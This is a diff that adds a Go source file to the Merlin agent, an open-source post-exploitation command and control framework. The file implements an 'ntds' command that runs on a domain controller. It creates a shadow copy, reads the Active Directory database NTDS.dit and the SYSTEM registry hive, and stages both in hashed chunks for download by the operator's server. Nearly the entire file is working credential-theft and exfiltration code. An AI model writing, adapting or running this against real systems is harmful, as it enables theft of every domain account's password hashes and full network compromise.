@@ -0,0 +1,107 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"os"
+	"path/filepath"
+	"strconv"
+
+	// X Packages
+	"golang.org/x/sys/windows/registry"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/crypto/secure"
+	"github.com/Ne0nd0g/merlin-agent/staging"
+)
+
+// NTDS collects NTDS.dit and the SYSTEM hive from a domain controller. It creates a shadow copy of the database's
+// volume, copies both files into the staging area, and deletes the shadow copy. The server only accepts one file
+// transfer per job, so the staged files are retrieved in chunks with "staging download" using the SHA256 hash of each
+// chunk and file to verify and reassemble them
+// ntds [chunk size in MB]
+func NTDS(cmd jobs.Command) (results jobs.Results) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering NTDS() with %+v", cmd))
+	}
+	chunk := defaultChunkMB
+	if len(cmd.Args) > 0 {
+		var err error
+		chunk, err = strconv.Atoi(cmd.Args[0])
+		if err != nil || chunk < 1 {
+			results.Stderr = fmt.Sprintf("%s is not a valid chunk size in megabytes", cmd.Args[0])
+			return
+		}
+	}
+
+	// The NTDS service records the database location and only exists on domain controllers
+	key, err := registry.OpenKey(registry.LOCAL_MACHINE, `SYSTEM\CurrentControlSet\Services\NTDS\Parameters`, registry.QUERY_VALUE)
+	if err != nil {
+		results.Stderr = fmt.Sprintf("the host does not appear to be a domain controller: %s", err)
+		return
+	}
+	database, _, err := key.GetStringValue("DSA Database file")
+	key.Close()
+	if err != nil {
+		results.Stderr = fmt.Sprintf("there was an error reading the NTDS database location: %s", err)
+		return
+	}
+	system := filepath.Join(os.Getenv("SystemRoot"), "System32", "config", "SYSTEM")
+
+	shadow, err := createShadow(filepath.VolumeName(database))
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	results.Stdout = fmt.Sprintf("Created shadow copy %s at %s\n", shadow.id, shadow.device)
+	defer func() {
+		if err := deleteShadow(shadow.id); err != nil {
+			results.Stderr += err.Error()
+			return
+		}
+		results.Stdout += fmt.Sprintf("Deleted shadow copy %s\n", shadow.id)
+	}()
+
+	for _, file := range []string{database, system} {
+		data, err := os.ReadFile(shadowPath(shadow.device, file))
+		if err != nil {
+			results.Stderr += fmt.Sprintf("there was an error reading %s from the shadow copy: %s\n", file, err)
+			continue
+		}
+		name := filepath.Base(file)
+		id, err := staging.Add(name, data)
+		if err != nil {
+			results.Stderr += fmt.Sprintf("there was an error staging %s: %s\n", file, err)
+			secure.Zero(data)
+			continue
+		}
+		summary, _ := stageTransfer(name, id, data, chunk)
+		results.Stdout += summary
+	}
+	results.Stdout += fmt.Sprintf("Retrieve each file with \"staging download <id>\", or each part with \"staging download <id> <part> %d\", then reassemble the parts in order and verify the file hashes", chunk)
+	return
+}